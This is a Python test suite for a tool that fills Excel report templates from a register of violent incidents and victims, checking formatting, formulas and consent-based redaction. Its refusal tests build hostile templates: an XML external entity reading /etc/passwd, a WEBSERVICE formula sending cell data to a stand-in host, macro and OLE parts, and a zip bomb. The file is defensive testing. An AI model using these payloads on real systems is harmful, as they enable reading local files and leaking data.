"""Templates: named cells and tables are filled, all else stays; nothing may run, fetch, or tell what may not leave."""

from __future__ import annotations

import io
import random
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pyrage
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from python_calamine import CalamineWorkbook

from exports import Cancelled, FileAsked, Manner, Report, Sharing, disclose, write_file
from exports.template.example import write_example
from exports.template.growing import Growth, regrown, regrown_cells
from storage.edits import Edit
from storage.errors import UserError
from storage.fields.words import Words
from storage.store import Store
from tests.builders import a_store, a_victim, an_incident, count, day, name, place
from tests.canaries import INTERNAL_PLACE, SEALED_PLACE, marked, stands_in
from tests.disk import files_up_to
from tests.test_sharing import OUTSIDE, PARTNER, PUBLIC, may_leave, whole

LANGUAGES = ["en", "ar"]
HEADS = ["code", "التاريخ", "Killed: at least", "twice", "remarks of ours"]
Change = Callable[[Workbook], None]
RED, BLUE = "FFAA0000", "FF0000AA"


@pytest.fixture
def register(tmp_path: Path) -> Iterator[Store]:
    made = a_store(tmp_path)
    yield made
    made.close()


def cells(book: Workbook, sheet: str, **named: str) -> None:
    for title, at in named.items():
        book.defined_names[title] = DefinedName(title, attr_text=f"'{sheet}'!{at}")


def a_template(path: Path, *, heads: list[str] | None = None, change: Change = lambda book: None) -> Path:
    """A coordinator's report: names, a formatted table of one row, formulas, a chart, rules, a comment."""
    book = Workbook()
    front, data = book.active, book.create_sheet("Data sheet")
    front.title = "Front"
    front["A1"], front["B1"] = "Killed (at least)", 99
    front["B1"].font, front["B1"].number_format = Font(color=RED, bold=True), '0 "people"'
    front["B2"], front["B3"] = "=B1*2", "=SUM('Data sheet'!C5:C5)"
    front["B1"].comment = Comment("ask Monday", "Coordinator")
    front.column_dimensions["A"].width = 47
    cells(book, "Front", sijill_killed_min="$B$1", SIJILL_Period="$B$5", sijill_hidden="$B$6", sijill_nonsense="$B$7")
    data["A1"], data["G5"], data["A2"] = "Attacks", "beside the table", "=COUNTA(A5:A5)"
    for at, head in enumerate(heads or HEADS, 1):
        data.cell(4, at, head)
    data["A5"], data["E5"] = "EXAMPLE-CODE", "EXAMPLE-REMARK"
    data["A5"].fill = PatternFill("solid", fgColor=BLUE)
    data["D5"] = "=C5*2"
    last = "ABCDEFGH"[len(heads or HEADS) - 1]
    data.add_table(Table(displayName="sijill_incidents", ref=f"A4:{last}5"))
    data.conditional_formatting.add("C5:C5", CellIsRule(operator="greaterThan", formula=["1"], font=Font(color=RED)))
    check = DataValidation(type="whole", operator="greaterThan", formula1="0")
    check.add("C5")
    data.add_data_validation(check)
    chart = BarChart()
    chart.add_data(Reference(data, min_col=3, min_row=5, max_row=5))
    chart.set_categories(Reference(data, min_col=1, min_row=5, max_row=5))
    front.add_chart(chart, "D2")
    change(book)
    book.save(path)
    return path


def filled(store: Store, template: Path, target: Path, sharing: Sharing | None = None, **more: Any) -> Report:
    language, passphrase = more.pop("language", "en"), more.pop("passphrase", "")
    with store.frozen() as source:
        manner = Manner(template=template, passphrase=passphrase)
        return write_file(source, target, FileAsked(language, sharing=sharing or Sharing(), manner=manner, **more))


def three(store: Store) -> None:
    for number in (1, 2, 3):
        an_incident(store, code=f"INC-{number}", claims=1, occurred=day(f"2019-07-0{number}"))


# ------------------------------------------------------------------------------------------------- what is filled


@pytest.mark.parametrize("language", LANGUAGES)
def test_cells_and_tables_are_filled_and_formats_and_formulas_kept(
    register: Store, tmp_path: Path, language: str
) -> None:
    three(register)
    report = filled(register, a_template(tmp_path / "t.xlsx"), tmp_path / "out.xlsx", language=language)
    book = load_workbook(report.path)
    front, data = book["Front"], book["Data sheet"]
    assert front["B1"].value == 6
    assert (front["B1"].font.color.rgb, front["B1"].number_format) == (RED, '0 "people"')
    assert front["B1"].comment.text == "ask Monday"
    assert (front["B2"].value, front["B3"].value) == ("=B1*2", "=SUM('Data sheet'!C5:C7)")
    assert front["B5"].value == Words(language).t("all days")
    assert front.column_dimensions["A"].width == 47
    assert [[cell.value for cell in row[:4]] for row in data["A5:D7"]] == [
        [f"INC-{at}", datetime(2019, 7, at), 2, f"=C{at + 4}*2"] for at in (1, 2, 3)
    ]
    assert data["A2"].value == "=COUNTA(A5:A7)"
    assert {data.cell(row, 1).fill.fgColor.rgb for row in (5, 6, 7)} == {BLUE}
    assert data["B6"].number_format == "yyyy-mm-dd"
    assert data["G5"].value == "beside the table"
    assert data.tables["sijill_incidents"].ref == "A4:E7"
    assert [str(one.sqref) for one in data.conditional_formatting] == ["C5:C7"]
    assert str(data.data_validations.dataValidation[0].sqref) == "C5:C7"
    chart = whole(report.path)
    assert "'Data sheet'!$C$5:$C$7" in chart
    assert "'Data sheet'!$A$5:$A$7" in chart
    assert report.rows == {"incident": 3}


def test_what_the_template_held_in_place_of_data_is_gone(register: Store, tmp_path: Path) -> None:
    three(register)
    text = whole(filled(register, a_template(tmp_path / "t.xlsx"), tmp_path / "out.xlsx").path)
    assert "EXAMPLE" not in text
    assert "Attacks" in text


def test_words_nobody_knows_are_told(register: Store, tmp_path: Path) -> None:
    three(register)
    remarks = " ".join(filled(register, a_template(tmp_path / "t.xlsx"), tmp_path / "out.xlsx").remarks)
    assert "sijill_nonsense" in remarks
    assert "sijill_incidents[remarks of ours]" in remarks
    assert "[twice]" not in remarks, "a column with a formula is the coordinator's own"


def test_the_file_says_on_a_last_sheet_what_it_is(register: Store, tmp_path: Path) -> None:
    three(register)
    report = filled(register, a_template(tmp_path / "t.xlsx"), tmp_path / "out.xlsx", PUBLIC)
    book = load_workbook(report.path)
    assert book.sheetnames == ["Front", "Data sheet", "About this file"]
    told = [cell for row in book.worksheets[-1].values for cell in row if cell]
    assert any(str(text).startswith("Public:") for text in told)
    assert set(report.hidden) <= set(told)
    assert book["Front"]["B6"].value == "\n".join(report.hidden)


def test_an_empty_register_leaves_an_empty_row(register: Store, tmp_path: Path) -> None:
    report = filled(register, a_template(tmp_path / "t.xlsx"), tmp_path / "out.xlsx")
    data = load_workbook(report.path)["Data sheet"]
    assert data.tables["sijill_incidents"].ref == "A4:E5"
    assert [cell.value for cell in data[5][:5]] == [None] * 5


def test_totals_move_with_the_table(register: Store, tmp_path: Path) -> None:
    def with_totals(book: Workbook) -> None:
        data = book["Data sheet"]
        data["C6"] = "=SUBTOTAL(109,sijill_incidents[Killed: at least])"
        data.tables["sijill_incidents"].ref = "A4:E6"
        data.tables["sijill_incidents"].totalsRowCount = 1
        book["Front"]["B8"] = "='Data sheet'!C6"

    three(register)
    report = filled(register, a_template(tmp_path / "t.xlsx", change=with_totals), tmp_path / "out.xlsx")
    book = load_workbook(report.path)
    data = book["Data sheet"]
    assert data.tables["sijill_incidents"].ref == "A4:E8"
    assert data["C8"].value == "=SUBTOTAL(109,sijill_incidents[Killed: at least])"
    assert data["C6"].value == 2
    assert book["Front"]["B8"].value == "='Data sheet'!C8"


def test_fewer_rows_than_the_template_had_leave_none_of_them(register: Store, tmp_path: Path) -> None:
    def long(book: Workbook) -> None:
        data = book["Data sheet"]
        for row in range(6, 12):
            data.cell(row, 1, f"EXAMPLE-{row}")
        data.tables["sijill_incidents"].ref = "A4:E11"
        book["Front"]["B9"] = "=SUM('Data sheet'!C5:C11)"

    three(register)
    book = load_workbook(filled(register, a_template(tmp_path / "t.xlsx", change=long), tmp_path / "o.xlsx").path)
    assert book["Data sheet"].tables["sijill_incidents"].ref == "A4:E7"
    assert [book["Data sheet"].cell(row, 1).value for row in range(8, 12)] == [None] * 4
    assert book["Front"]["B9"].value == "=SUM('Data sheet'!C5:C7)"


def test_what_stands_below_a_table_is_never_written_over(register: Store, tmp_path: Path) -> None:
    def below(book: Workbook) -> None:
        book["Data sheet"]["B7"] = "signature"

    three(register)
    template = a_template(tmp_path / "t.xlsx", change=below)
    with pytest.raises(UserError) as refused:
        filled(register, template, tmp_path / "out.xlsx")
    assert refused.value.kind == "template-no-room"
    assert "row 7" in Words("en").say(refused.value.what).translate(dict.fromkeys(range(0x2066, 0x206A)))
    assert not (tmp_path / "out.xlsx").exists()


def test_a_named_cell_with_a_formula_keeps_it(register: Store, tmp_path: Path) -> None:
    def formula(book: Workbook) -> None:
        cells(book, "Front", sijill_injured_min="$B$2")

    report = filled(register, a_template(tmp_path / "t.xlsx", change=formula), tmp_path / "out.xlsx")
    assert load_workbook(report.path)["Front"]["B2"].value == "=B1*2"
    assert any("sijill_injured_min" in one for one in report.remarks)


def test_texts_of_the_register_never_become_formulas(register: Store, tmp_path: Path) -> None:
    an_incident(register, public_account="=1+1", code="INC-1")
    template = a_template(tmp_path / "t.xlsx", heads=["incident.code", "public_account"])
    report = filled(register, template, tmp_path / "out.xlsx")
    cell = load_workbook(report.path)["Data sheet"]["B5"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True) or (
        cell.data_type == "f" and "<f>1+1</f>" not in whole(report.path)
    )
    assert 't="inlineStr"><is><t>=1+1</t>' in whole(report.path)


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("sharing", [Sharing(), PARTNER, PUBLIC])
def test_the_example_is_a_template(register: Store, tmp_path: Path, sharing: Sharing, language: str) -> None:
    three(register)
    write_example(tmp_path / "example.xlsx", language=language)
    report = filled(register, tmp_path / "example.xlsx", tmp_path / "out.xlsx", sharing, language=language)
    rows = CalamineWorkbook.from_path(report.path).get_sheet_by_index(0).to_python()
    assert [row[5] for row in rows[18:21]] == [2, 2, 2]
    assert not any(Words(language).t("Not known here, nothing was filled in: {names}.", names="")[:10] in one
                   for one in report.remarks)  # fmt: skip


def test_a_table_of_villages_is_filled(register: Store, tmp_path: Path) -> None:
    def villages(book: Workbook) -> None:
        sheet = book.create_sheet("V")
        for at, head in enumerate(["village.name", "left_min", "State"], 1):
            sheet.cell(1, at, head)
        sheet.add_table(Table(displayName="sijill_villages", ref="A1:C2"))

    origin = place(register, "Kafr Nobol")
    register.save(
        [
            Edit(
                "movement",
                None,
                {
                    "origin": origin,
                    "destination": place(register, "Darkosh"),
                    "direction": "out",
                    "started": day("2019-07-05"),
                    "persons": count("300"),
                },
            )
        ]
    )
    report = filled(register, a_template(tmp_path / "t.xlsx", change=villages), tmp_path / "out.xlsx")
    assert [cell.value for cell in load_workbook(report.path)["V"][2]][:2] == ["Kafr Nobol", 300]


def test_parts_that_are_not_touched_stay_byte_for_byte(register: Store, tmp_path: Path) -> None:
    template = a_template(tmp_path / "t.xlsx")
    with zipfile.ZipFile(template) as before, zipfile.ZipFile(tmp_path / "t2.xlsx", "w") as after:
        for one in before.namelist():
            after.writestr(one, before.read(one))
        after.writestr("xl/media/emblem.png", b"\x89PNG not really")
        after.writestr("xl/printerSettings/printerSettings1.bin", bytes(range(256)))
    report = filled(register, tmp_path / "t2.xlsx", tmp_path / "out.xlsx")
    with zipfile.ZipFile(tmp_path / "t2.xlsx") as before, zipfile.ZipFile(report.path) as after:
        for one in ("xl/media/emblem.png", "xl/printerSettings/printerSettings1.bin", "xl/theme/theme1.xml"):
            assert after.read(one) == before.read(one)
        assert set(before.namelist()) <= set(after.namelist())


def test_the_template_itself_is_not_touched_nor_written_over(register: Store, tmp_path: Path) -> None:
    template = a_template(tmp_path / "t.xlsx")
    before = template.read_bytes()
    filled(register, template, tmp_path / "out.xlsx")
    with pytest.raises(UserError) as refused:
        filled(register, template, template)
    assert refused.value.kind == "template-itself"
    assert template.read_bytes() == before


# ------------------------------------------------------------------------------------------------- levels


def old_data(book: Workbook) -> None:
    """Last month's filled file, used as a template again."""
    data = book["Data sheet"]
    for row in range(5, 9):
        data.cell(row, 1, f"OLDNAME{row}")
        data.cell(row, 4, f"=C{row}*2")
    data.tables["sijill_incidents"].ref = "A4:E8"
    sheet = book.create_sheet("People")
    for at, head in enumerate(["victim.name.ar", "victim.sex"], 1):
        sheet.cell(1, at, head)
    sheet["A2"] = "OLDNAME of a person"
    sheet.add_table(Table(displayName="sijill_victims", ref="A1:B2"))
    cells(book, "Front", sijill_named="$B$9", sijill_rescued="$B$10")
    book["Front"]["B10"] = "OLDNAME figure"
    book.properties.creator = "Somebody Real"


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("level", list(OUTSIDE))
def test_no_mark_of_a_more_private_field_and_nothing_old_is_anywhere_in_the_bytes(
    register: Store, tmp_path: Path, level: str, language: str
) -> None:
    found = marked(register, consent="organisation")
    heads = ["incident.code", "incident.narrative", "incident.position", "incident.author", "place", "public_account"]
    template = a_template(tmp_path / "t.xlsx", heads=heads, change=old_data)
    report = filled(register, template, tmp_path / "out.xlsx", OUTSIDE[level], language=language)
    text = whole(report.path)
    allowed = {
        form for one in found if may_leave(one, OUTSIDE[level].level) and one.field != "id" for form in one.forms
    }
    raw = {form for one in found if one.field == "id" for form in one.forms}
    for one in found:
        for form in one.forms:
            if form in raw or form not in allowed:
                assert not stands_in(form, text), one
    for hidden in (SEALED_PLACE, INTERNAL_PLACE) if level == "partner" else (SEALED_PLACE,):
        facts = register.places.get(place(register, hidden))
        assert facts is not None
        assert facts.code not in text
    assert "OLDNAME" not in text
    assert "Somebody Real" not in text
    assert "Tester" not in text
    assert any("incident.narrative" in one for one in report.remarks)


def test_names_are_filled_only_with_consent(register: Store, tmp_path: Path) -> None:
    a_victim(register, name=name("محمد خالد الأحمد"), consent="partners")
    a_victim(register, name=name("سمر خالد"), consent="no")
    template = a_template(tmp_path / "t.xlsx", change=old_data)
    assert "سمر خالد" in whole(filled(register, template, tmp_path / "i.xlsx").path)
    partner = whole(filled(register, template, tmp_path / "p.xlsx", PARTNER).path)
    assert ("محمد خالد الأحمد" in partner, "سمر" in partner) == (True, False)
    assert "محمد" not in whole(filled(register, template, tmp_path / "w.xlsx", PUBLIC).path)


def test_results_of_formulas_and_charts_are_not_remembered(register: Store, tmp_path: Path) -> None:
    template = a_template(tmp_path / "t.xlsx")
    with zipfile.ZipFile(template) as before, zipfile.ZipFile(tmp_path / "t2.xlsx", "w") as after:
        for one in before.namelist():
            data = before.read(one)
            cache = b'<numCache><ptCount val="1"/><pt idx="0"><v>4712</v></pt></numCache>'
            data = data.replace(b"<f>B1*2</f><v></v>", b"<f>B1*2</f><v>4711</v>")
            data = data.replace(b"</f></numRef>", b"</f>" + cache + b"</numRef>")
            after.writestr(one, data)
    assert "4711" in whole(tmp_path / "t2.xlsx")
    assert "4712" in whole(tmp_path / "t2.xlsx")
    text = whole(filled(register, tmp_path / "t2.xlsx", tmp_path / "out.xlsx", PUBLIC).path)
    assert "4711" not in text
    assert "4712" not in text
    assert 'fullCalcOnLoad="1"' in text


# ------------------------------------------------------------------------------------------------- refused


def with_part(path: Path, name: str, data: bytes) -> Path:
    with zipfile.ZipFile(path, "a") as package:
        package.writestr(name, data)
    return path


def replaced(path: Path, part: str, before: bytes, after: bytes) -> Path:
    with zipfile.ZipFile(path) as package:
        parts = {one: package.read(one) for one in package.namelist()}
    assert before in parts[part]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for one, data in parts.items():
            package.writestr(one, data.replace(before, after, 1) if one == part else data)
    return path


@pytest.mark.parametrize(
    ("part", "kind"),
    [
        ("xl/vbaProject.bin", "template-runs"),
        ("xl/activeX/activeX1.bin", "template-runs"),
        ("xl/externalLinks/externalLink1.xml", "template-links"),
        ("xl/connections.xml", "template-links"),
        ("xl/embeddings/oleObject1.bin", "template-links"),
        ("_xmlsignatures/origin.sigs", "template-signed"),
    ],
)
def test_what_could_run_or_fetch_is_refused(register: Store, tmp_path: Path, part: str, kind: str) -> None:
    template = with_part(a_template(tmp_path / "t.xlsx"), part, b"<x/>")
    with pytest.raises(UserError) as refused:
        filled(register, template, tmp_path / "out.xlsx")
    assert refused.value.kind == kind
    assert not (tmp_path / "out.xlsx").exists()


@pytest.mark.parametrize("formula", ['WEBSERVICE("http://x/"&B1)', '_xlfn.IMAGE("http://x/")', "rtd (1)", "CALL(1)"])
def test_formulas_that_ask_others_are_refused(register: Store, tmp_path: Path, formula: str) -> None:
    template = replaced(
        a_template(tmp_path / "t.xlsx"), "xl/worksheets/sheet1.xml", b"<f>B1*2</f>",
        f"<f>{formula.replace('&', '&amp;')}</f>".encode(),
    )  # fmt: skip
    with pytest.raises(UserError) as refused:
        filled(register, template, tmp_path / "out.xlsx")
    assert refused.value.kind == "template-links"


def test_entities_lies_and_other_files_are_refused(register: Store, tmp_path: Path) -> None:
    linked = b'<Relationship TargetMode="External" Type="x/image" Target="http://x/" Id="z"/><Relationship '
    hostile = {
        "entity": replaced(a_template(tmp_path / "a.xlsx"), "xl/workbook.xml", b"<workbook",
                           b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook'),
        "linked": replaced(a_template(tmp_path / "b.xlsx"), "xl/_rels/workbook.xml.rels", b"<Relationship ", linked),
        "broken": replaced(a_template(tmp_path / "c.xlsx"), "xl/worksheets/sheet1.xml", b"<sheetData>", b"<sheetDat"),
        "text": tmp_path / "d.xlsx",
        "cut": tmp_path / "e.xlsx",
        "bomb": with_part(a_template(tmp_path / "f.xlsx"), "xl/media/x.png", b""),
    }  # fmt: skip
    hostile["text"].write_text("no workbook", encoding="utf-8")
    hostile["cut"].write_bytes(a_template(tmp_path / "g.xlsx").read_bytes()[:3000])
    with zipfile.ZipFile(hostile["bomb"], "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/media/bomb.png", bytes(200 << 20))
    for title, path in hostile.items():
        with pytest.raises(UserError):
            filled(register, path, tmp_path / "out.xlsx")
        assert not (tmp_path / "out.xlsx").exists(), title


def test_an_exported_workbook_is_no_template(register: Store, tmp_path: Path) -> None:
    with register.frozen() as source:
        write_file(source, tmp_path / "ours.xlsx", FileAsked(language="en"))
    with pytest.raises(UserError) as refused:
        filled(register, tmp_path / "ours.xlsx", tmp_path / "out.xlsx")
    assert refused.value.kind == "template-full"


def test_pivot_tables_stay_with_our_own_teams(register: Store, tmp_path: Path) -> None:
    cache = b'<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    template = with_part(a_template(tmp_path / "t.xlsx"), "xl/pivotCache/pivotCacheDefinition1.xml", cache)
    with pytest.raises(UserError) as refused:
        filled(register, template, tmp_path / "out.xlsx", PARTNER)
    assert refused.value.kind == "template-pivots"
    assert 'refreshOnLoad="1"' in whole(filled(register, template, tmp_path / "out.xlsx").path)


def test_a_workbook_without_names_of_ours_is_refused(register: Store, tmp_path: Path) -> None:
    book = Workbook()
    book.save(tmp_path / "t.xlsx")
    with pytest.raises(UserError) as refused:
        filled(register, tmp_path / "t.xlsx", tmp_path / "out.xlsx")
    assert refused.value.kind == "template-empty"
    with pytest.raises(UserError):
        filled(register, tmp_path / "missing.xlsx", tmp_path / "out.xlsx")


# ------------------------------------------------------------------------------------------------- faults


def test_a_full_disk_and_stopping_leave_what_was_there(register: Store, tmp_path: Path) -> None:
    three(register)
    template, target = a_template(tmp_path / "t.xlsx"), tmp_path / "out.xlsx"
    target.write_bytes(b"before")
    with pytest.raises(UserError) as refused, files_up_to(2000):
        filled(register, template, target)
    assert refused.value.kind == "disk-full"
    with pytest.raises(Cancelled):
        filled(register, template, target, cancelled=lambda: True)
    assert target.read_bytes() == b"before"
    assert sorted(one.name for one in tmp_path.iterdir() if one.is_file()) == ["out.xlsx", "t.xlsx"]


def test_a_filled_template_can_be_protected_and_is_in_the_log(register: Store, tmp_path: Path) -> None:
    three(register)
    report = filled(
        register, a_template(tmp_path / "t.xlsx"), tmp_path / "out.xlsx", PARTNER, passphrase="salt bridge 9"
    )
    assert report.path.name == "out.xlsx.age"
    plain = pyrage.passphrase.decrypt(report.path.read_bytes(), "salt bridge 9")
    assert load_workbook(io.BytesIO(plain))["Front"]["B1"].value == 6
    entry = register.read("disclosure", disclose(register, report))
    assert entry is not None
    assert (entry.values["rows"], entry.values["protected"], entry.values["format"]) == (3, "yes", "xlsx")


# ------------------------------------------------------------------------------------------------- references


GROWN = Growth("Data", 1, 3, 5, 9, 20, 10, 21)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("SUM(Data!A5:A9)", "SUM(Data!A5:A20)"),
        ("SUM('Data'!$B$4:$B$9)", "SUM('Data'!$B$4:$B$20)"),
        ("Data!C10", "Data!C21"),
        ("SUM(Data!A5:A8)", "SUM(Data!A5:A8)"),
        ("SUM(Data!D5:D9)", "SUM(Data!D5:D9)"),
        ("SUM(Other!A5:A9)", "SUM(Other!A5:A9)"),
        ('"Data!A5:A9"&Data!A1:C10', '"Data!A5:A9"&Data!A1:C21'),
        ("LOG10(Data!A9)", "LOG10(Data!A9)"),
        ("Data[killed]+A5:A9", "Data[killed]+A5:A9"),
    ],
)
def test_references_follow_a_table(before: str, after: str) -> None:
    assert regrown(before, "Front", [GROWN]) == after
    assert regrown(after, "Front", []) == after


def test_ranges_of_rules_follow_a_table() -> None:
    one_row = Growth("Data", 1, 3, 5, 5, 8)
    assert regrown_cells("C5 E5 A1:B2", "Data", [one_row]) == "C5:C8 E5 A1:B2"
    assert regrown_cells("C5", "Other", [one_row]) == "C5"


@given(st.text(alphabet="ABC$:!'1290 ()+\",Data[]#@.", max_size=30))
def test_any_formula_survives_a_table_that_did_not_change(formula: str) -> None:
    same = Growth("Data", 1, 3, 5, 9, 9, 10, 10)
    assert regrown(formula, "Data", [same]) == formula


def test_prefixed_sheets_are_filled_too(register: Store, tmp_path: Path) -> None:
    """Some programs write ``<x:worksheet>``."""
    three(register)
    template = a_template(tmp_path / "t.xlsx")
    shutil.copy(template, tmp_path / "p.xlsx")
    with zipfile.ZipFile(template) as package:
        parts = {one: package.read(one) for one in package.namelist()}
    sheet = parts["xl/worksheets/sheet2.xml"].decode()
    sheet = re.sub(r"<(/?)(?=[a-zA-Z])", r"<\1x:", sheet).replace('xmlns="', 'xmlns:x="', 1)
    etree.fromstring(sheet.encode())
    with zipfile.ZipFile(tmp_path / "p.xlsx", "w") as package:
        for one, data in parts.items():
            package.writestr(one, sheet.encode() if one.endswith("sheet2.xml") else data)
    report = filled(register, tmp_path / "p.xlsx", tmp_path / "out.xlsx")
    data = load_workbook(report.path)["Data sheet"]
    assert [data.cell(row, 1).value for row in (5, 6, 7)] == ["INC-1", "INC-2", "INC-3"]
    assert data["D7"].value == "=C7*2"


# ------------------------------------------------------------------------------------------------- any damage


def spoiled(template: Path, target: Path, chance: random.Random) -> Path:
    """A copy with some bytes of one part changed, cut out, doubled or put elsewhere."""
    with zipfile.ZipFile(template) as package:
        parts = {one: package.read(one) for one in package.namelist()}
    name = chance.choice([one for one in parts if one.endswith((".xml", ".rels"))])
    data = bytearray(parts[name])
    for _ in range(chance.randint(1, 4)):
        at = chance.randrange(len(data))
        end = min(len(data), at + chance.randint(1, 30))
        match chance.randrange(4):
            case 0:
                data[at:end] = bytes(chance.choice(b'<>"/A9:$ =x&') for _ in range(end - at))
            case 1:
                del data[at:end]
            case 2:
                data[at:at] = data[at:end]
            case _:
                numbers = [one.span() for one in re.finditer(rb"\d+", bytes(data))]
                start, stop = chance.choice(numbers) if numbers else (0, 0)
                data[start:stop] = chance.choice([b"0", b"-1", b"99999999", b"1048577", b""])
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for one, whole_part in parts.items():
            package.writestr(one, bytes(data) if one == name else whole_part)
    return target


@pytest.mark.parametrize("round_", range(10))
def test_a_damaged_template_is_filled_or_refused_in_words(register: Store, tmp_path: Path, round_: int) -> None:
    three(register)
    template, chance = a_template(tmp_path / "t.xlsx"), random.Random(round_)
    outcomes = set()
    with register.frozen() as source:
        for _ in range(20):
            target = tmp_path / "out.xlsx"
            target.unlink(missing_ok=True)
            manner = Manner(template=spoiled(template, tmp_path / "spoiled.xlsx", chance))
            try:
                write_file(source, target, FileAsked(language="en", manner=manner))
                outcomes.add(target.exists())
            except UserError as refused:
                outcomes.add(refused.kind != "")
                assert not target.exists()
            assert not list(tmp_path.glob("*.part"))
    assert outcomes == {True}
